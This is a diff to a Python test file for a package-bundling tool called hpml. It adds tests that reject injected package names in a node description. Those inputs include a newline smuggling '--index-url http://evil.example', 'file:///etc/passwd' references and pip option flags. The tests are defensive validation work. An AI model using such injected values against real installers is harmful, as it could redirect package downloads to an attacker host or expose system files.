@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from hpml_plugins.errors import UsageError
-from hpml_plugins.tools.bundle.packages import NodeFacts, assume_node, read_node
+from hpml_plugins.tools.bundle.packages import NodeFacts, assume_node, read_node, request_packages
 
 Hpml = Callable[..., subprocess.CompletedProcess[str]]
 TOLD = NodeFacts(1, "3.12.3", "cp312", "x86_64", "glibc 2.39", {"torch": "2.11.0"})
@@ -62,19 +62,37 @@ def test_a_file_that_no_node_told_is_named(tmp_path: Path, text: str, message: s
 @pytest.mark.parametrize(
     ("change", "message"),
     [
-        ({"abi": "pypy310"}, "the node's Python is pypy310; packages are built for the usual CPython"),
+        ({"abi": "pypy310"}, "the node's Python is pypy310; packages are built for standard CPython"),
         ({"abi": "cp313t"}, "the node's Python is cp313t"),
         ({"libc": ""}, "the node is x86_64 with a C library that is not glibc"),
         ({"libc": "glibc 2.12"}, "the node is x86_64 with glibc 2.12"),
+        (
+            {"packages": {"torch\n--index-url http://evil.example": "1"}},
+            r"torch\n--index-url http://evil.example' is no name",
+        ),
+        ({"packages": {"x @ file:///etc/passwd": ""}}, "'x @ file:///etc/passwd' is no name of a package; remove it"),
+        ({"packages": {"-r/etc/passwd": "1.0"}}, "'-r/etc/passwd' is no name of a package"),
+        ({"packages": {"--no-index": ""}}, "'--no-index' is no name of a package"),
+        ({"packages": {"torch\n": "2.11"}}, "is no name of a package"),
+        ({"packages": {"": "1"}}, "'' is no name of a package"),
+        ({"packages": {"x" * 9999: "1"}}, "is no name of a package"),
         ({"machine": "ppc64le"}, "the node is ppc64le with glibc 2.39"),
     ],
 )
-def test_a_node_that_no_package_is_built_for_is_refused(tmp_path: Path, change: dict[str, str], message: str) -> None:
+def test_a_node_that_no_package_is_built_for_is_refused(
+    tmp_path: Path, change: dict[str, object], message: str
+) -> None:
     import msgspec
 
     (tmp_path / "node.json").write_bytes(msgspec.json.encode(msgspec.structs.replace(TOLD, **change)))
     with pytest.raises(UsageError, match=re.escape(message)):
         read_node(tmp_path / "node.json")
+
+
+def test_a_version_cannot_become_a_line_of_its_own(tmp_path: Path) -> None:
+    (tmp_path / "pyproject.toml").write_text("[project]\ndependencies = []\n")
+    facts = NodeFacts(1, "3.12.3", "cp312", "x86_64", "glibc 2.39", {"torch": "2.11\n", "numpy": " 2.1 \n\n"})
+    assert request_packages(tmp_path, facts).preferred == {"numpy": "2.1"}
 
 
 @pytest.mark.parametrize(
@@ -83,8 +101,14 @@ def test_a_node_that_no_package_is_built_for_is_refused(tmp_path: Path, change: 
         ([], "hpml: either --node, or --python with --platform and --has; ask it: hpml bundle --ask"),
         (["--node", "n.json", "--has", "torch"], "either --node, or --python"),
         (["--node", "n.json"], "hpml: n.json: No such file or directory; ask it: hpml bundle --ask"),
-        (["--python", "3.x"], "'3.x' on 'manylinux_2_28_x86_64' is no node; for example --python 3.12"),
-        (["--python", "3.12", "--platform", "win_amd64"], "'3.12' on 'win_amd64' is no node"),
+        (
+            ["--python", "3.x"],
+            "'3.x' on 'manylinux_2_28_x86_64' is not the Python and platform of a node; for example --python 3.12",
+        ),
+        (
+            ["--python", "3.12", "--platform", "win_amd64"],
+            "'3.12' on 'win_amd64' is not the Python and platform of a node",
+        ),
         (["--python", "3.12"], "pyproject.toml: No such file or directory; run hpml bundle in the project's folder"),
     ],
 )
